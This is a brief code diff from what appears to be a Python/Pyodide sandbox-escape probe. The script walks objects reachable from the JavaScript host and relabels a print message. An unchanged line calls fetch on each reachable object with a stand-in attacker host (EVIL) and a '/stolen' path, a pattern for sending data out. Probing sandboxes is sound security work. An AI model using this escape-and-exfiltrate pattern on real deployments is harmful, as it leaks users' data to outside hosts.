@@ -26,7 +26,7 @@ for act in (lambda: Error.new("x").stack, lambda: pyodide_js.runPython("1/0"), l
         print(type(error).__name__)
 for thing in found:
     if thing is not None:
-        print("open:", thing)
+        print("reached:", thing)
         if hasattr(thing, "fetch"):
             thing.fetch(EVIL + "/stolen")
 print(len(found), "looked at")
